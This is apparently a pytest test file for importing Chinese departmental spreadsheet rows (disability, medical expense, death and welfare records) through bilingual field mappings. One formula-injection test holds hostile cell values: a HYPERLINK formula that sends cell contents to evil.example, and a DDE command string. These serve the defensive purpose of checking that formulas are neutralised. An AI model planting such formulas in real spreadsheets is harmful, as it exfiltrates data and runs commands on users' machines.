"""A department's row read through its mapping, as a specification: the person and the observation data it
gives, or the first problem, at its line and column, in Chinese and English."""

from __future__ import annotations

import textwrap
from datetime import date, datetime
from typing import Any

import pytest
from stdnum.cn import ric

from domain.imports.mapping import Mapping, load_mapping
from domain.imports.rows import UNREADABLE, ImportRow, RowProblem, convert, spreadsheet_safe


def id_number(region: str, born: date, sequence: str = "123") -> str:
    """A resident ID number with a correct check digit, computed by stdnum (never hard-coded)."""
    body = f"{region}{born:%Y%m%d}{sequence}"
    return body + ric.calc_check_digit(body + "0")


PERSON = id_number("500381", date(1948, 6, 1), "484")
WITH_X = next(n for n in (id_number("500381", date(1944, 5, 31), f"{s:03d}") for s in range(1000)) if n.endswith("X"))

DISABILITY = load_mapping(textwrap.dedent("""\
    department: disabled_federation
    name_zh: 残疾人联合会
    name_en: Disabled Persons' Federation
    kind: resident.disability_assessed
    record_key: [残疾证号]
    person: {id_number: 公民身份号码, name: 姓名, region: 户籍地行政区划代码, address: 户籍地址}
    fields:
      category: {column: 残疾类别, values: {"1": visual, "4": physical, 肢体残疾: physical}}
      grade: {column: 残疾等级, values: {一级: 1, 二级: 2, 三级: 3, 四级: 4}}
      certified: {constant: true}
    lead: {when: {grade: [1, 2]}, what_zh: 一级或二级残疾人证, what_en: Grade 1 or 2 certificate}
    """))
MEDICAL = load_mapping(textwrap.dedent("""\
    department: medical_insurance
    name_zh: 医疗保障局
    name_en: Healthcare Security Administration
    kind: household.expense_reported
    person: {id_number: 公民身份号码}
    fields:
      kind: {constant: medical}
      amount: 个人自付金额
      date: 结算日期
    lead: {when: {amount: {min: 20000}}, what_zh: 大额自付, what_en: large bill}
    """))
DEATHS = load_mapping(textwrap.dedent("""\
    department: public_security
    name_zh: 公安局
    name_en: Public Security Bureau
    kind: resident.died
    record_key: [公民身份号码]
    person: {id_number: 公民身份号码, name: 姓名, address: 住址}
    require: {注销原因: [死亡]}
    fields: {date: 死亡日期}
    """))
SUSPENSIONS = load_mapping(textwrap.dedent("""\
    department: civil_affairs
    name_zh: 民政局
    name_en: Civil Affairs Bureau
    kind: coverage.suspended
    person: {id_number: 身份证号}
    fields:
      programme: {constant: dibao}
      date: 暂停日期
      reason: 暂停原因
    """))


def certificate(**changes: Any) -> dict[str, Any]:
    row = {"残疾证号": f"{PERSON}41", "公民身份号码": PERSON, "姓名": "高玉梅", "户籍地行政区划代码": "500116104002",
           "户籍地址": "重庆市江津区油溪镇金刚村8组118号", "残疾类别": "肢体残疾", "残疾等级": "一级"}
    return {**row, **changes}


def problem(mapping: Mapping, cells: dict[str, Any], line: int = 7) -> RowProblem:
    result = convert(mapping, line, cells)
    assert isinstance(result, RowProblem), result
    assert result.line == line and result.message and result.message_zh
    return result


def accepted(mapping: Mapping, cells: dict[str, Any], line: int = 2) -> ImportRow:
    result = convert(mapping, line, cells)
    assert isinstance(result, ImportRow), result
    return result


def test_a_row_becomes_the_person_and_the_observation_data() -> None:
    row = accepted(DISABILITY, certificate(), line=5)
    assert row == ImportRow(line=5, record_key=f"{PERSON}41", id_number=PERSON, name="高玉梅", region="500116104002",
                            address="重庆市江津区油溪镇金刚村8组118号",
                            data={"category": "physical", "grade": 1, "certified": True})


def test_cells_are_stripped_and_the_id_number_normalised() -> None:
    spaced = f" {WITH_X[:6]} {WITH_X[6:14]} {WITH_X[14:].lower()} "
    row = accepted(DISABILITY, certificate(公民身份号码=spaced, 姓名=" 高玉梅 ", 残疾类别=" 4 "))
    assert row.id_number == WITH_X and row.name == "高玉梅" and row.data["category"] == "physical"


def test_a_wrong_check_digit_is_refused_at_the_id_number_column() -> None:
    wrong = PERSON[:-1] + ("0" if PERSON[-1] != "0" else "1")
    refused = problem(DISABILITY, certificate(公民身份号码=wrong))
    assert refused.column == "公民身份号码"
    assert "fails its checksum" in refused.message and "校验码错误" in refused.message_zh
    assert wrong in refused.message


@pytest.mark.parametrize("value", [None, "", "   "])
def test_a_missing_id_number_is_refused(value: Any) -> None:
    refused = problem(DISABILITY, certificate(公民身份号码=value))
    assert refused.column == "公民身份号码" and "is empty" in refused.message and "身份证号必须填写" in refused.message_zh


def test_a_short_id_number_is_refused() -> None:
    assert "18-digit" in problem(DISABILITY, certificate(公民身份号码="50011619480601")).message


def test_a_value_not_in_the_value_map_is_refused_listing_the_known_values() -> None:
    refused = problem(DISABILITY, certificate(残疾类别="肢体"))
    assert refused.column == "残疾类别"
    assert refused.message == "'肢体' is not in the value map of category; known values: 1, 4, 肢体残疾"
    assert "不在 category 的值映射中" in refused.message_zh


def test_an_empty_required_cell_is_refused_at_its_column() -> None:
    refused = problem(DISABILITY, certificate(残疾等级=""))
    assert (refused.column, refused.message) == ("残疾等级", "is empty; grade is required")


def test_an_empty_record_key_is_refused() -> None:
    refused = problem(DISABILITY, certificate(残疾证号=None))
    assert refused.column == "残疾证号" and "record key" in refused.message


@pytest.mark.parametrize("value", ["2025-02-30", "明天", "2025/13/01", "1/3"])
def test_a_bad_date_is_refused_at_its_column(value: str) -> None:
    refused = problem(DEATHS, {"公民身份号码": PERSON, "注销原因": "死亡", "死亡日期": value})
    assert refused.column == "死亡日期"
    assert "is not a date" in refused.message and "不是日期" in refused.message_zh


@pytest.mark.parametrize(("cell", "day"), [
    ("2025-01-03", "2025-01-03"), ("2025/1/3", "2025-01-03"), ("2025年1月3日", "2025-01-03"), ("20250103", "2025-01-03"),
    (45660, "2025-01-03"), (45660.0, "2025-01-03"), (datetime(2025, 1, 3, 0, 0), "2025-01-03"), (date(2025, 1, 3), "2025-01-03"),
])
def test_every_date_form_gives_an_iso_date(cell: Any, day: str) -> None:
    row = accepted(DEATHS, {"公民身份号码": PERSON, "注销原因": "死亡", "死亡日期": cell})
    assert row.data == {"date": day}


def test_a_row_outside_the_required_values_is_refused() -> None:
    refused = problem(DEATHS, {"公民身份号码": PERSON, "注销原因": "迁出", "死亡日期": "2025-01-03"})
    assert refused.column == "注销原因" and "only rows with 死亡" in refused.message


@pytest.mark.parametrize(("cell", "amount"), [
    ("1234.5", 1234.5), ("1,234.50", 1234.5), ("¥1,234.567", 1234.57), ("300元", 300.0), (" 20000 ", 20000.0),
    (1234.5, 1234.5), (20000, 20000.0), (0.1 + 0.2, 0.3),
])
def test_money_is_yuan_to_the_fen(cell: Any, amount: float) -> None:
    row = accepted(MEDICAL, {"公民身份号码": PERSON, "个人自付金额": cell, "结算日期": "2025-03-05"})
    assert row.data == {"kind": "medical", "amount": amount, "date": "2025-03-05"}
    assert type(row.data["amount"]) is float


@pytest.mark.parametrize("cell", ["abc", "12.3.4", "-500", "1 234"])
def test_what_is_no_amount_is_refused(cell: str) -> None:
    refused = problem(MEDICAL, {"公民身份号码": PERSON, "个人自付金额": cell, "结算日期": "2025-03-05"})
    assert refused.column == "个人自付金额" and "not an amount" in refused.message


def test_an_amount_beyond_the_vocabulary_is_refused_at_its_column() -> None:
    refused = problem(MEDICAL, {"公民身份号码": PERSON, "个人自付金额": "9999999999", "结算日期": "2025-03-05"})
    assert refused.column == "个人自付金额" and "amount is implausibly large" in refused.message


def test_the_same_row_twice_has_the_same_record_key() -> None:
    cells = {"公民身份号码": PERSON, "个人自付金额": "1234.50", "结算日期": "2025/3/5"}
    first, again = accepted(MEDICAL, cells, line=2), accepted(MEDICAL, dict(cells), line=9)
    assert first.record_key == again.record_key and len(first.record_key) == 64
    # the content, not its spelling, is the key: the same amount and day written otherwise
    assert accepted(MEDICAL, {"公民身份号码": f" {PERSON} ", "个人自付金额": 1234.5, "结算日期": 45721}).record_key == first.record_key
    assert accepted(MEDICAL, {**cells, "个人自付金额": "1234.51"}).record_key != first.record_key
    other = id_number("500116", date(2012, 5, 1))
    assert accepted(MEDICAL, {**cells, "公民身份号码": other}).record_key != first.record_key
    keyed = [accepted(DISABILITY, certificate(), line=n).record_key for n in (2, 3)]
    assert keyed[0] == keyed[1] == f"{PERSON}41"


def test_a_record_key_of_several_columns_is_joined() -> None:
    mapping = load_mapping(textwrap.dedent("""\
        department: education
        name_zh: 教育局
        name_en: Education Bureau
        kind: resident.school_status_reported
        record_key: [学籍号, 辍学日期]
        person: {id_number: 公民身份号码}
        fields: {status: {constant: dropped_out}, full_time: {constant: false}}
        lead: {what_zh: 辍学, what_en: dropout}
        """))
    row = accepted(mapping, {"学籍号": f" G{PERSON} ", "辍学日期": "2025-03-01", "公民身份号码": PERSON})
    assert row.record_key == f"G{PERSON}|2025-03-01"
    assert row.data == {"status": "dropped_out", "full_time": False} and row.lead_wanted(mapping)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_value_read_as_a_formula_is_made_text(prefix: str) -> None:
    assert spreadsheet_safe(f"{prefix}HYPERLINK(\"http://x\")") == f"'{prefix}HYPERLINK(\"http://x\")"


@pytest.mark.parametrize("text", ["高玉梅", "500116", "1+1", "a=b", ""])
def test_other_values_are_left_as_they_are(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_a_formula_in_a_cell_never_reaches_the_data_as_a_formula() -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    row = accepted(DISABILITY, certificate(姓名=formula, 户籍地址="@SUM(1+1)"))
    assert row.name == "'" + formula and row.address == "'@SUM(1+1)"
    suspended = accepted(SUSPENSIONS, {"身份证号": PERSON, "暂停日期": "2025-03-01", "暂停原因": "=cmd|' /C calc'!A0"})
    assert suspended.data["reason"] == "'=cmd|' /C calc'!A0"
    refused = problem(DISABILITY, certificate(残疾类别="=HYPERLINK(1)"))
    assert not refused.message.startswith(tuple("=+-@\t\r")) and "=HYPERLINK(1)" in refused.message


def test_the_region_is_kept_only_when_it_is_a_code_where_people_live() -> None:
    assert accepted(DISABILITY, certificate(户籍地行政区划代码=500116)).region == "500116"
    assert accepted(DISABILITY, certificate(户籍地行政区划代码="500116001")).region == "500116001"
    for wrong in ("50011", "5001160010", "江津区", "500116000", None):
        assert accepted(DISABILITY, certificate(户籍地行政区划代码=wrong)).region is None


def test_an_optional_field_left_empty_is_left_out() -> None:
    mapping = load_mapping(textwrap.dedent("""\
        department: x
        name_zh: 某部门
        name_en: Some department
        kind: household.emergency_reported
        person: {id_number: 身份证号}
        fields:
          kind: {column: 类别, values: {火灾: fire, 其他: other}}
          date: 日期
          loss: {column: 损失金额, required: false}
        """))
    row = accepted(mapping, {"身份证号": PERSON, "类别": "火灾", "日期": "2025-03-01", "损失金额": " "})
    assert row.data == {"kind": "fire", "date": "2025-03-01"}
    assert accepted(mapping, {"身份证号": PERSON, "类别": "火灾", "日期": "2025-03-01", "损失金额": "5,000"}).data["loss"] == 5000.0


def test_whole_numbers_and_yes_or_no_are_read_by_type() -> None:
    mapping = load_mapping(textwrap.dedent("""\
        department: x
        name_zh: 某部门
        name_en: Some department
        kind: resident.disability_assessed
        person: {id_number: 身份证号}
        fields: {category: {constant: physical}, grade: 等级, certified: 持证}
        """))
    assert accepted(mapping, {"身份证号": PERSON, "等级": "2", "持证": "是"}).data["grade"] == 2
    assert accepted(mapping, {"身份证号": PERSON, "等级": 3.0, "持证": "否"}).data == {
        "category": "physical", "grade": 3, "certified": False}
    assert "not a whole number" in problem(mapping, {"身份证号": PERSON, "等级": "2.5", "持证": "是"}).message
    assert "grade must be from 1 to 4" in problem(mapping, {"身份证号": PERSON, "等级": "5", "持证": "是"}).message
    assert "not yes or no" in problem(mapping, {"身份证号": PERSON, "等级": "2", "持证": "也许"}).message


def test_the_first_problem_of_a_row_is_given_id_number_first() -> None:
    refused = problem(DISABILITY, certificate(公民身份号码="123", 残疾类别="?", 残疾等级=""))
    assert refused.column == "公民身份号码"


def test_a_row_the_reader_could_not_read_is_its_problem() -> None:
    unreadable = RowProblem(4, "", "not valid JSON", "不是有效的 JSON")
    assert convert(DISABILITY, 4, {UNREADABLE: unreadable}) is unreadable


def test_a_lead_is_wanted_when_the_condition_holds() -> None:
    assert accepted(DISABILITY, certificate(残疾等级="二级")).lead_wanted(DISABILITY)
    assert not accepted(DISABILITY, certificate(残疾等级="三级")).lead_wanted(DISABILITY)
    medical = {"公民身份号码": PERSON, "结算日期": "2025-03-05"}
    assert accepted(MEDICAL, {**medical, "个人自付金额": "20000"}).lead_wanted(MEDICAL)
    assert not accepted(MEDICAL, {**medical, "个人自付金额": "19999.99"}).lead_wanted(MEDICAL)
    assert not accepted(DEATHS, {"公民身份号码": PERSON, "注销原因": "死亡", "死亡日期": "2025-01-03"}).lead_wanted(DEATHS)
